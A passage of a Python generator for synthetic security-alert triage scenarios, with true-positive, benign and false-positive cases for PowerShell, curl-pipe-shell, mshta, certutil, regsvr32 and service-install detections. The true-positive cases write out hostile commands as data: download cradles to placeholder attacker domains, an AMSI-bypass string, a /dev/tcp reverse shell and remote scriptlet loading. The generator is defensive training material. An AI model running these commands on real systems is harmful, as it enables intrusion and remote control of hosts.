            gws("gmail", "filter_creation", u.email, ip, {"filter_criteria": "from:(security@%s OR it-helpdesk@%s)" % (EMAIL_DOMAIN, EMAIL_DOMAIN),
                                                          "filter_action": "TRASH, MARK_AS_READ"}),
            ents={"users": [u.email], "ips": [ip]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Filter on %s trashes mail from security@ and it-helpdesk@, created from %s right after a session hijack: the attacker wanted our 'suspicious login' notices hidden. Filter deleted, session cookies reset, 2SV re-enrolled." % (u.email, ip),
        "Hiding rule aimed at security notifications on %s. Account was taken over via AiTM. Cleaned up and secured." % u.email,
    ])
    return out("Gmail hiding filter for security notices on %s" % u.sam, "high", ["T1564.008", "T1078.004"], notes,
               ["remove_mailbox_rule", "revoke_sessions", "reset_password"])


@scenario("rb-bec-inbox-rules", "benign")
def bec_user_rule(c):
    u = c.person()
    ip = int_ip("10.20")
    sender = pick(["jira@", "confluence@", "noreply-builds@", "pagerduty@"]) + EMAIL_DOMAIN
    c.alert("o365", "Inbox rule moves mail to RSS/Archive folder", "medium",
            o365("New-InboxRule", u.upn, ip, params={"Name": sender.split("@")[0].title() + " noise", "From": sender, "MoveToFolder": "Archive",
                                                      "MarkAsRead": "True"}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s built a rule on their own mailbox to file %s notifications into Archive. Created from %s (office LAN, their compliant laptop) and it doesn't forward or delete anything. Housekeeping, nothing to do." % (u.upn, sender, ip),
        "Only condition is From=%s, action move+mark read. No external recipient, no keyword matching on finance terms, session from the corporate network at %s. %s confirmed in chat they set it up." % (sender, ip, u.first),
    ])
    return out("%s filing %s mail into Archive" % (u.sam, sender.split("@")[0]), "informational", ["T1564.008"], notes, [])


@scenario("rb-bec-inbox-rules", "false_positive")
def bec_shared_mailbox(c):
    u = c.person()
    box = pick(["ap-invoices@", "support@", "careers@"]) + EMAIL_DOMAIN
    dest = "%s@tickets.example.net" % box.split("@")[0]
    c.alert("o365", "Inbox rule forwards mail to external address", "high",
            o365("Set-InboxRule", box, int_ip(), params={"Name": "Route to ticketing", "RedirectTo": dest}),
            ents={"users": [box, u.upn]}, asset=("corporate", "medium", "customer-support"))
    notes = pick([
        "Redirect on %s goes to %s, which is the intake address of our contracted helpdesk platform (contract on file since 2022). The Set-InboxRule was %s renaming the rule, not creating it. Added the vendor domain to the forwarding allowlist." % (box, dest, u.upn),
        "External redirect looked like BEC but the target %s is the ticketing vendor. %s only edited the rule name; the redirect itself predates the detection." % (dest, u.name),
    ])
    return out("Ticketing redirect on shared mailbox %s" % box, "informational", ["T1114.003"], notes, [])


# ===================================== execution =====================================
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


@scenario("rb-encoded-powershell", "true_positive")
def encps_download_cradle(c):
    u = c.person()
    host = c.ws()
    dom = evil_domain()
    script = "IEX ((New-Object System.Net.WebClient).DownloadString('https://%s/%s'))" % (dom, pick(["a.ps1", "s", "update.txt", "check"]))
    cmd = "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand " + b64_utf16(script)
    parent = pick(["C:\\Windows\\System32\\wscript.exe", "C:\\Windows\\System32\\mshta.exe", "C:\\Windows\\explorer.exe"])
    c.alert("sysmon", "Encoded PowerShell with download cradle", "high",
            sysmon1(host, u.win, PS, cmd, parent), ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    c.alert("windows-security", "PowerShell script block logged with network download", "high",
            winsec(4104, host, Channel="Microsoft-Windows-PowerShell/Operational", ScriptBlockText=script, ScriptBlockId=guid(), Path=""),
            off=0.1, ents={"hosts": [host], "urls": ["https://%s/" % dom]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "-EncodedCommand decodes to an IEX download cradle from %s, parent %s. The second stage was an AMSI bypass + Cobalt Strike stager (retrieved from the proxy cache). %s isolated, domain blocked, %s reset." % (dom, parent.split("\\")[-1], host, u.sam),
        "Decoded 4104 script block shows DownloadString from %s executed under %s on %s. Confirmed malicious loader. Isolated and collected memory." % (dom, u.name, host),
    ])
    return out("Encoded PowerShell download cradle on %s" % host, "high", ["T1059.001", "T1027.010", "T1105"], notes,
               ["isolate_host", "block_indicator", "collect_forensics", "reset_password"])


@scenario("rb-encoded-powershell", "true_positive")
def encps_amsi_bypass(c):
    u = c.person()
    host = c.winsrv()
    script = "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)"
    c.alert("windows-security", "AMSI bypass string in PowerShell script block", "critical",
            winsec(4104, host, Channel="Microsoft-Windows-PowerShell/Operational", ScriptBlockText=script, ScriptBlockId=guid(), Level=3),
            ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    c.alert("crowdstrike", "Obfuscated PowerShell with reflective loading", "high",
            cs(host, u.sam, "ObfuscatedPowerShell", "Defense Evasion", "Obfuscated Files or Information",
               "powershell -w 1 -c \"&([scriptblock]::Create((New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('H4sI%s'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()))\"" % alnum(40),
               PS, "wmiprvse.exe"), off=0.3, ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    notes = pick([
        "String-split amsiInitFailed patch followed by a gzip+base64 scriptblock, spawned from WmiPrvSE on %s, i.e. remote WMI execution using %s. Decoded payload enumerates shares and drops a reverse shell. Isolated, account disabled, hunt across servers for the same gzip prefix found one more host (linked)." % (host, u.sam),
        "AMSI tamper + compressed loader via WMI on %s. Hands-on-keyboard. Contained." % host,
    ])
    return out("AMSI bypass and gzip loader on %s" % host, "critical", ["T1059.001", "T1027.010", "T1562.001", "T1047"], notes,
               ["isolate_host", "disable_account", "collect_forensics", "kill_process"])


@scenario("rb-encoded-powershell", "benign")
def encps_sccm(c):
    host = pick([c.ws(), c.winsrv()])
    script = "$s=Get-CimInstance -Namespace root\\ccm\\clientsdk -ClassName CCM_SoftwareUpdate; if($s){exit 1}else{exit 0}"
    cmd = "powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -EncodedCommand " + b64_utf16(script)
    c.alert("sysmon", "Encoded PowerShell command line", "medium",
            sysmon1(host, "NT AUTHORITY\\SYSTEM", PS, cmd, "C:\\Windows\\CCM\\CcmExec.exe", integrity="System", cwd="C:\\Windows\\CCM\\"),
            ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "CcmExec.exe parent on %s, SYSTEM, and the blob decodes to a CCM_SoftwareUpdate compliance check. Same encoded string runs on thousands of endpoints nightly; allowlisted by hash of the decoded script." % host,
        "SCCM configuration-item detection script on %s (pending updates check). -ExecutionPolicy Bypass is how the client always launches these." % host,
    ])
    return out("SCCM compliance check with -EncodedCommand on %s" % host, "informational", ["T1059.001"], notes, [])


@scenario("rb-encoded-powershell", "benign")
def encps_intune(c):
    host = c.ws()
    script = "Get-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\BitLocker' | ConvertTo-Json"
    c.alert("sysmon", "Encoded PowerShell command line", "medium",
            sysmon1(host, "NT AUTHORITY\\SYSTEM", PS, "powershell.exe -NoProfile -enc " + b64_utf16(script),
                    "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", integrity="System"),
            ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "Decodes to a read of the BitLocker policy key; parent AgentExecutor.exe on %s. It's the 'BitLocker drift' proactive remediation in Intune, running fleet-wide hourly." % host,
        "Intune Management Extension remediation on %s reading HKLM BitLocker policy. Management activity, no network calls." % host,
    ])
    return out("Intune BitLocker remediation script on %s" % host, "informational", ["T1059.001"], notes, [])


@scenario("rb-encoded-powershell", "false_positive")
def encps_vscode(c):
    u = c.person()
    host = c.ws()
    c.alert("sysmon", "Encoded PowerShell command line", "medium",
            sysmon1(host, u.win, PS, "powershell.exe -NoProfile -NonInteractive -EncodedCommand " + b64_utf16("$PSVersionTable.PSVersion.ToString()"),
                    "C:\\Users\\%s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" % u.sam),
            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "Decoded: $PSVersionTable.PSVersion.ToString(). Parent is VS Code under %s's profile on %s; the PowerShell extension probes the version at startup." % (u.sam, host),
        "VS Code extension host running an encoded version check for %s. Harmless; added the decoded script to the allowlist." % u.win,
    ])
    return out("VS Code PowerShell version probe by %s" % u.sam, "informational", ["T1059.001"], notes, [])


@scenario("rb-linux-curl-pipe-shell", "true_positive")
def curl_pipe_webapp(c):
    host = c.lnx(pick(["web", "app", "api"]), "prod")
    ip = ext_ip()
    cmd = "curl -fsSL http://%s:%d/%s | bash" % (ip, pick([80, 8080, 8000, 443]), pick(["s.sh", "ldr", "init.sh", "x"]))
    c.alert("auditd", "curl piped to shell by web server user", "critical",
            auditd(host, "EXECVE", "/usr/bin/bash", "bash", ["sh", "-c", cmd], auid="4294967295", uid="33", key="web_exec", cwd="/var/www/html", tty="(none)"),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "high", "web-team"))
    c.alert("auditd", "Binary executed from /dev/shm", "critical",
            auditd(host, "EXECVE", "/dev/shm/.%s" % alnum(4), "kworker", ["/dev/shm/.%s" % alnum(4)], auid="4294967295", uid="33", key="exec_tmp", tty="(none)"),
            off=0.5, ents={"hosts": [host]}, asset=("production", "high", "web-team"))
    notes = pick([
        "www-data (uid 33) ran '%s' from /var/www/html, i.e. command injection through the app; the script dropped a kworker-named binary in /dev/shm. Pulled %s from the LB, snapshotted disk, blocked %s, and the app team is patching the vulnerable upload handler." % (cmd, host, ip),
        "Web-user curl|bash from %s on %s followed by exec from /dev/shm. Confirmed exploitation. Instance replaced, IOC blocked." % (ip, host),
    ])
    return out("curl | bash as www-data on %s" % host, "critical", ["T1059.004", "T1105", "T1190"], notes,
               ["isolate_host", "block_indicator", "collect_forensics", "kill_process"])


@scenario("rb-linux-curl-pipe-shell", "true_positive")
def curl_pipe_b64(c):
    host = c.lnx()
    u = pick(["ubuntu", "ec2-user", "deploy"])
    payload = "bash -i >& /dev/tcp/%s/%d 0>&1" % (ext_ip(), pick([4444, 9001, 1337, 443]))
    cmd = "echo %s | base64 -d | bash" % base64.b64encode(payload.encode()).decode()
    c.alert("falco", "Obfuscated shell command decoded and executed", "critical",
            falco("Base64-decoded payload piped to shell", "Critical", "Shell ran decoded payload (command=%s)" % cmd[:80],
                  {"proc.cmdline": cmd, "proc.pname": "sshd", "user.name": u, "k8s.node.name": host}),
            ents={"hosts": [host], "users": [u]}, asset=("production", "medium", c.team()))
    notes = pick([
        "base64 blob decodes to a /dev/tcp reverse shell; executed under %s on %s right after an SSH login with a key that was added to authorized_keys yesterday. Isolated host, removed the key, reviewed bash history." % (u, host),
        "Decoded payload is an interactive reverse shell to an external IP. Contained %s; linked to the authorized_keys persistence case." % host,
    ])
    return out("Base64 reverse shell on %s" % host, "critical", ["T1059.004", "T1140", "T1027"], notes,
               ["isolate_host", "kill_process", "block_indicator", "collect_forensics"])


@scenario("rb-linux-curl-pipe-shell", "benign")
def curl_pipe_installer(c):
    host = c.lnx(pick(["build-agent", "ci-runner", "dev"]), pick(["prod", "stg"]))
    u = c.person()
    url = pick(["https://sh.rustup.rs", "https://get.docker.com", "https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh",
                "https://install.python-poetry.org"])
    c.alert("auditd", "curl piped to shell", "medium",
            auditd(host, "EXECVE", "/usr/bin/bash", "bash", ["bash", "-c", "curl -sSfL %s | sh -s -- -y" % url], auid=str(rng.randint(1000, 1200)), uid="0", key="pipe_shell"),
            ents={"hosts": [host], "users": [u.sam]}, asset=("development", "low", "devex"))
    notes = pick([
        "%s installing a toolchain on %s with the vendor's documented one-liner (%s). Interactive, during working hours, from their own sudo session. Benign, though we nudged them toward the pinned image." % (u.name, host, url.split("/")[2]),
        "Official installer from %s piped to sh on a dev build box. Expected developer behaviour." % url.split("/")[2],
    ])
    return out("Vendor install one-liner on %s" % host, "informational", ["T1059.004"], notes, [])


@scenario("rb-linux-curl-pipe-shell", "false_positive")
def curl_pipe_healthcheck(c):
    host = c.lnx()
    c.alert("auditd", "curl piped to shell", "medium",
            auditd(host, "EXECVE", "/usr/bin/sh", "sh", ["sh", "-c", "curl -s http://127.0.0.1:8080/healthz | grep -q ok || systemctl restart app"],
                   auid="4294967295", uid="0", key="pipe_shell", tty="(none)"),
            ents={"hosts": [host]}, asset=("production", "low", "sre"))
    notes = pick([
        "On %s the pipe goes to grep, not a shell; it's the watchdog cron hitting localhost healthz and restarting the app on failure. The regex matched 'curl ... | ... sh' across the whole string. Anchored it." % host,
        "Local health-check cron on %s. Nothing downloaded or executed." % host,
    ])
    return out("Healthcheck cron on %s matched curl|sh rule" % host, "informational", ["T1059.004"], notes, ["create_ticket"])


@scenario("rb-mshta-script-proxy", "true_positive")
def mshta_remote_hta(c):
    u = c.person()
    host = c.ws()
    dom = evil_domain()
    cmd = 'mshta.exe https://%s/%s.hta' % (dom, alnum(5))
    c.alert("sysmon", "mshta executing remote HTA", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\mshta.exe", cmd, "C:\\Windows\\explorer.exe"),
            ents={"hosts": [host], "users": [u.win], "urls": ["https://%s/" % dom]}, asset=("corporate", "medium", c.team()))
    c.alert("sysmon", "mshta network connection to rare domain", "medium",
            sysmon3(host, u.win, "C:\\Windows\\System32\\mshta.exe", ext_ip(), 443, dhost=dom), off=0.1,
            ents={"hosts": [host]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "Run-dialog lure ('press Win+R and paste to verify you are human') led %s to paste an mshta command pointing at %s. The HTA launched a PowerShell stealer that the EDR killed. Isolated, reset browser-stored creds, blocked the domain." % (u.name, dom),
        "mshta from explorer with a remote HTA URL on %s; fake CAPTCHA page campaign. Contained and user sessions revoked as the stealer may have run briefly." % host,
    ])
    return out("mshta remote HTA from fake CAPTCHA on %s" % host, "high", ["T1218.005", "T1204.004", "T1059.005"], notes,
               ["isolate_host", "block_indicator", "revoke_sessions", "reset_password"])


@scenario("rb-mshta-script-proxy", "true_positive")
def wscript_vbs_persistence(c):
    u = c.person()
    host = c.ws()
    vbs = "C:\\Users\\%s\\AppData\\Roaming\\%s.vbs" % (u.sam, pick(["OneDriveSync", "Updater", "winlogon"]))
    c.alert("crowdstrike", "wscript executing VBS from AppData", "high",
            cs(host, u.sam, "WScriptSuspiciousPath", "Execution", "Command and Scripting Interpreter", 'wscript.exe //B //E:vbscript "%s"' % vbs,
               "C:\\Windows\\System32\\wscript.exe", "svchost.exe", extra={"GrandParentImageFileName": "taskeng.exe"}),
            ents={"hosts": [host], "users": [u.win], "files": [vbs]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "VBS in AppData launched by a scheduled task every 10 minutes; it polls a paste site for commands. Origin was a cracked software installer %s downloaded. Removed task and script, reimaged %s." % (u.name, host),
        "Persistent VBS beacon (%s) on %s. Task removed, host reimaged, indicators blocked." % (vbs.split("\\")[-1], host),
    ])
    return out("VBS beacon via wscript on %s" % host, "high", ["T1059.005", "T1053.005"], notes,
               ["isolate_host", "kill_process", "block_indicator", "collect_forensics"])


@scenario("rb-mshta-script-proxy", "benign")
def mshta_legacy_app(c):
    u = c.person()
    host = c.ws()
    app = pick(["HPE\\iLO Console", "Kofax\\Capture", "LegacyHR\\Client"])
    c.alert("sysmon", "mshta execution", "low",
            sysmon1(host, u.win, "C:\\Windows\\System32\\mshta.exe", '"C:\\Windows\\System32\\mshta.exe" "C:\\Program Files (x86)\\%s\\launcher.hta"' % app,
                    "C:\\Windows\\explorer.exe"), ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "Local HTA at Program Files (x86)\\%s\\launcher.hta opened by %s on %s; the vendor app still ships an HTA launcher. No network connections from mshta. Path allowlisted." % (app, u.sam, host),
        "%s's launcher.hta is part of the installed %s package (file hash matches the installer). Benign." % (host, app.split("\\")[0]),
    ])
    return out("%s HTA launcher on %s" % (app.split("\\")[0], host), "informational", ["T1218.005"], notes, [])


@scenario("rb-mshta-script-proxy", "false_positive")
def cscript_slmgr(c):
    host = pick([c.ws(), c.winsrv()])
    kms = "kms01." + AD_DOMAIN
    c.alert("sysmon", "cscript executing script from System32 with network activity", "medium",
            sysmon1(host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\System32\\cscript.exe", "cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /ato",
                    "C:\\Windows\\System32\\cmd.exe", integrity="System"), ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "slmgr.vbs /ato on %s is Windows activation against %s, run by the imaging task sequence as SYSTEM. The network activity is the KMS call on 1688." % (host, kms),
        "%s was reimaged today; activation via slmgr is the last step of the build. Benign." % host,
    ])
    return out("Windows activation via slmgr on %s" % host, "informational", ["T1059.005"], notes, [])


@scenario("rb-certutil-download", "true_positive")
def certutil_urlcache(c):
    u = c.person()
    host = c.winsrv()
    ip = ext_ip()
    out_f = "C:\\ProgramData\\%s.txt" % alnum(5)
    c.alert("sysmon", "certutil used to download file", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://%s/%s.b64 %s" % (ip, alnum(4), out_f), CMD),
            ents={"hosts": [host], "users": [u.win], "ips": [ip], "files": [out_f]}, asset=("production", "high", c.team()))
    c.alert("sysmon", "certutil decode of downloaded file", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\certutil.exe", "certutil.exe -decode %s C:\\ProgramData\\%s.exe" % (out_f, pick(["svcupd", "dllhost32", "msupd"])), CMD),
            off=0.2, ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    notes = pick([
        "certutil -urlcache pulled a base64 blob from %s and -decode turned it into an exe in ProgramData on %s. Parent cmd was spawned by sqlservr.exe (xp_cmdshell enabled on this box). Isolated, disabled xp_cmdshell, rotated the sa password." % (ip, host),
        "LOLBin download+decode chain on %s using %s's session. Payload is a known RAT. Contained." % (host, u.sam),
    ])
    return out("certutil download and decode on %s" % host, "high", ["T1105", "T1140", "T1059.003"], notes,
               ["isolate_host", "block_indicator", "collect_forensics", "rotate_secret"])


@scenario("rb-certutil-download", "true_positive")
def bitsadmin_job(c):
    u = c.person()
    host = c.ws()
    dom = evil_domain()
    c.alert("windows-security", "BITS job created with external URL", "medium",
            {"EventID": 3, "Channel": "Microsoft-Windows-Bits-Client/Operational", "Computer": host + "." + AD_DOMAIN,
             "jobTitle": pick(["Update", "WindowsUpdateJob", "sync"]), "jobOwner": u.win, "url": "https://%s/%s.dll" % (dom, alnum(6)),
             "TimeCreated": "__T__"}, ents={"hosts": [host], "users": [u.win], "urls": ["https://%s/" % dom]}, asset=("corporate", "medium", c.team()))
    c.alert("sysmon", "bitsadmin persistence via SetNotifyCmdLine", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\bitsadmin.exe",
                    "bitsadmin /SetNotifyCmdLine %s C:\\Windows\\System32\\rundll32.exe \"C:\\Users\\Public\\%s.dll,Start\"" % ("Update", alnum(5)), CMD),
            off=0.3, ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "BITS job fetching a DLL from %s with SetNotifyCmdLine to run it via rundll32 on completion, i.e. download plus persistence through BITS. Job cancelled (bitsadmin /reset as SYSTEM), host isolated, domain blocked." % dom,
        "Malicious BITS job on %s owned by %s. Cleaned, isolated and blocked." % (host, u.sam),
    ])
    return out("Malicious BITS job on %s" % host, "high", ["T1197", "T1105", "T1218.011"], notes,
               ["isolate_host", "block_indicator", "kill_process"])


@scenario("rb-certutil-download", "benign")
def certutil_crl(c):
    host = c.winsrv(pick(["CA", "PKI"]))
    u = c.person()
    crl = "http://pki.%s/crl/%s.crl" % (EMAIL_DOMAIN, pick(["ExampleIssuingCA01", "ExampleIssuingCA02", "ExampleRootCA"]))
    c.alert("sysmon", "certutil with URL argument", "medium",
            sysmon1(host, u.win + "-adm", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -url %s" % crl, CMD),
            ents={"hosts": [host], "users": [u.win + "-adm"], "urls": [crl]}, asset=("production", "high", "identity-team"))
    notes = pick([
        "%s-adm (PKI admin) on %s checking that %s resolves after publishing the monthly CRL. Internal URL, nothing written to disk, no -urlcache/-decode." % (u.sam, host, crl.rsplit("/", 1)[1]),
        "CRL distribution point check by %s on the issuing CA %s. certutil -url against our own PKI host is the documented post-publication step." % (u.name, host),
    ])
    return out("CRL publication check on %s by %s" % (host, u.sam), "informational", ["T1105"], notes, [])


@scenario("rb-certutil-download", "false_positive")
def certutil_hash(c):
    u = c.person()
    host = c.ws()
    f = pick(["node-v20.12.2-x64.msi", "python-3.12.3-amd64.exe", "Git-2.45.1-64-bit.exe", "terraform_1.8.2_windows_amd64.zip"])
    c.alert("sysmon", "certutil used to download or decode file", "medium",
            sysmon1(host, u.win, "C:\\Windows\\System32\\certutil.exe", "certutil -hashfile C:\\Users\\%s\\Downloads\\%s SHA256" % (u.sam, f), PS),
            ents={"hosts": [host], "users": [u.win], "files": [f]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s on %s ran certutil -hashfile on %s to compare against the vendor's published SHA256. No -urlcache, -decode or network connection. Rule was firing on the image name alone; tightened." % (u.sam, host, f),
        "Checksum verification of %s by %s. This is the benign use of certutil; no download/decode switches present." % (f, u.name),
    ])
    return out("certutil -hashfile of %s on %s" % (f.split("-")[0], host), "informational", ["T1140"], notes, [])


@scenario("rb-rundll32-regsvr32-proxy", "true_positive")
def regsvr32_squiblydoo(c):
    u = c.person()
    host = c.ws()
    dom = evil_domain()
    c.alert("sysmon", "regsvr32 loading scriptlet from URL", "critical",
            sysmon1(host, u.win, "C:\\Windows\\System32\\regsvr32.exe", "regsvr32.exe /s /n /u /i:https://%s/%s.sct scrobj.dll" % (dom, alnum(4)),
                    "C:\\Windows\\System32\\cmd.exe"), ents={"hosts": [host], "users": [u.win], "urls": ["https://%s/" % dom]},
            asset=("corporate", "medium", c.team()))
    notes = pick([
        "regsvr32 /i: with a remote .sct and scrobj.dll, the scriptlet launched a JScript stager. Came from a malicious LNK in a ZIP. Isolated %s, blocked %s." % (host, dom),
        "Remote scriptlet execution via regsvr32 on %s (%s). Confirmed stager. Contained." % (host, u.sam),
    ])
    return out("regsvr32 remote scriptlet on %s" % host, "critical", ["T1218.010", "T1105"], notes,
               ["isolate_host", "block_indicator", "collect_forensics"])


@scenario("rb-rundll32-regsvr32-proxy", "true_positive")
def rundll32_temp_dll(c):
    u = c.person()
    host = c.ws()
    dll = "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.tmp" % (u.sam, alnum(6))
    ip = ext_ip()
    c.alert("crowdstrike", "rundll32 loading DLL with non-DLL extension from Temp", "high",
            cs(host, u.sam, "Rundll32SuspiciousLoad", "Defense Evasion", "System Binary Proxy Execution", "rundll32.exe %s,DllRegisterServer" % dll,
               "C:\\Windows\\System32\\rundll32.exe", "WINWORD.EXE"), ents={"hosts": [host], "users": [u.win], "files": [dll]},
            asset=("corporate", "medium", c.team()))
    c.alert("zeek", "Periodic TLS to IP without SNI", "medium",
            zeek_ssl(int_ip("10.20"), ip, None, subject="CN=localhost", validation="self signed certificate"), off=2,
            ents={"ips": [ip]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "rundll32 loading a .tmp file from Temp under WINWORD, then TLS with a self-signed 'localhost' cert to %s. Loader family matches current malspam. %s isolated, hash and IP blocked." % (ip, host),
        "DLL sideload via rundll32 from a Word-dropped .tmp; C2 to %s. Contained %s, password reset for %s." % (ip, host, u.sam),
    ])
    return out("rundll32 loading Temp .tmp DLL on %s" % host, "high", ["T1218.011", "T1204.002", "T1071.001"], notes,
               ["isolate_host", "block_indicator", "reset_password", "collect_forensics"])


@scenario("rb-rundll32-regsvr32-proxy", "benign")
def rundll32_printui(c):
    u = c.person()
    host = c.ws()
    q = "\\\\SRV-PRINT0%d\\%s" % (rng.randint(1, 4), pick(["Floor3-Color", "HR-Mono", "Finance-MFP"]))
    c.alert("sysmon", "rundll32 with unusual export", "low",
            sysmon1(host, u.win, "C:\\Windows\\System32\\rundll32.exe", 'rundll32.exe printui.dll,PrintUIEntry /in /n "%s"' % q,
                    "C:\\Windows\\System32\\cmd.exe"), ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "printui.dll,PrintUIEntry /in mapping %s for %s on %s from the floor's logon script. Same line on every machine in that OU." % (q, u.sam, host),
        "Logon-script printer mapping (%s) on %s. Benign." % (q, host),
    ])
    return out("Printer mapping %s on %s" % (q.split("\\")[-1], host), "informational", ["T1218.011"], notes, [])


@scenario("rb-rundll32-regsvr32-proxy", "false_positive")
def regsvr32_office_reg(c):
    host = c.ws()
    c.alert("sysmon", "regsvr32 silent registration of DLL outside System32", "medium",
            sysmon1(host, "NT AUTHORITY\\SYSTEM", "C:\\Windows\\SysWOW64\\regsvr32.exe",
                    'regsvr32.exe /s "C:\\Program Files (x86)\\Adobe\\Acrobat DC\\Acrobat\\ActiveX\\AcroPDF.dll"',
                    "C:\\Windows\\System32\\msiexec.exe", integrity="System"), ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "msiexec on %s registering Acrobat's AcroPDF.dll during the monthly Adobe patch; Adobe-signed DLL under Program Files, no /i: or URL." % host,
        "Acrobat update on %s re-registering its ActiveX control. The 'outside System32' clause is too broad for installers. FP." % host,
    ])
    return out("Acrobat patch regsvr32 on %s" % host, "informational", ["T1218.010"], notes, [])


# ===================================== persistence ===================================

@scenario("rb-new-windows-service", "true_positive")
def svc_random_name(c):
    host = c.winsrv()
    name = alnum(8)
    path = pick(["%%COMSPEC%% /c powershell -nop -w hidden -enc %s" % b64_utf16("IEX(gc C:\\Windows\\Temp\\%s.txt -Raw)" % alnum(4))[:60],
                 "C:\\Windows\\%s.exe" % alnum(7), "\\\\127.0.0.1\\ADMIN$\\%s.exe" % alnum(7)])
    c.alert("windows-security", "Service installed with random name and suspicious image path", "high",
            {"EventID": 7045, "Channel": "System", "Provider": "Service Control Manager", "Computer": host + "." + AD_DOMAIN,
             "ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": "demand start",
             "AccountName": "LocalSystem", "TimeCreated": "__T__"},
            ents={"hosts": [host]}, asset=("production", "high", c.team()))
    notes = pick([
        "Service '%s' with ImagePath %s on %s: random name, demand start, LocalSystem. Created by a remote SCM call from a host already under investigation. Service deleted, host isolated, linked to the lateral-movement case." % (name, path[:50] + "...", host),
        "Random-named service on %s used as a one-shot SYSTEM execution primitive (Impacket/Cobalt-style). Contained." % host,
    ])
    return out("Random-named service %s on %s" % (name, host), "high", ["T1543.003", "T1569.002"], notes,
               ["isolate_host", "collect_forensics", "kill_process"])


@scenario("rb-new-windows-service", "true_positive")
def svc_driver_byovd(c):
    host = c.ws()
    drv = pick(["RTCore64.sys", "gdrv.sys", "dbutil_2_3.sys", "procexp152.sys"])
    c.alert("windows-security", "Kernel driver service installed from user-writable path", "critical",
            {"EventID": 7045, "Channel": "System", "Provider": "Service Control Manager", "Computer": host + "." + AD_DOMAIN,
             "ServiceName": drv.split(".")[0], "ImagePath": "C:\\Users\\Public\\%s" % drv, "ServiceType": "kernel mode driver",
             "StartType": "demand start", "AccountName": "", "TimeCreated": "__T__"},
            ents={"hosts": [host], "files": ["C:\\Users\\Public\\%s" % drv]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "Vulnerable signed driver %s loaded from C:\\Users\\Public on %s; classic bring-your-own-vulnerable-driver to kill EDR. The sensor went offline 3 minutes later. Network-isolated via switch port, reimaged, enabled the Microsoft vulnerable driver blocklist via WDAC." % (drv, host),
        "BYOVD attempt with %s on %s. Contained at the network level since the agent was killed." % (drv, host),
    ])
    return out("Vulnerable driver %s installed on %s" % (drv, host), "critical", ["T1543.003", "T1068", "T1562.001"], notes,
               ["isolate_host", "collect_forensics", "change_org_policy"])


@scenario("rb-new-windows-service", "benign")
def svc_agent_install(c):
    host = pick([c.winsrv(), c.ws()])
    svc = pick([("Tanium Client", "C:\\Program Files (x86)\\Tanium\\Tanium Client\\TaniumClient.exe"),
                ("Veeam Agent for Microsoft Windows", "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe"),
                ("Datadog Agent", "C:\\Program Files\\Datadog\\Datadog Agent\\bin\\agent.exe"),
                ("PSEXESVC", "C:\\Windows\\PSEXESVC.exe")])
    c.alert("windows-security", "New service installed", "low",
            {"EventID": 7045, "Channel": "System", "Computer": host + "." + AD_DOMAIN, "ServiceName": svc[0], "ImagePath": svc[1],
             "StartType": "auto start", "AccountName": "LocalSystem", "TimeCreated": "__T__"},
            ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    if svc[0] == "PSEXESVC":
        notes = "PSEXESVC on %s came from the helpdesk's remote fix for a stuck print spooler under %s: technician's admin account, single run, service removed when the session closed." % (host, inc())
    else:
        notes = pick(["%s installed on %s by the SCCM package deployment scheduled this week; signed binary in its standard path." % (svc[0], host),
                      "Service install of %s on %s lines up with the software deployment ring it belongs to. Expected." % (svc[0], host)])
    return out("Service %s installed on %s" % (svc[0], host), "informational", ["T1543.003"], notes, [])


@scenario("rb-new-windows-service", "false_positive")
def svc_update_rename(c):
    host = c.ws()
    name = "edgeupdate%s" % hexs(4)
    c.alert("windows-security", "Service installed with random name and suspicious image path", "medium",
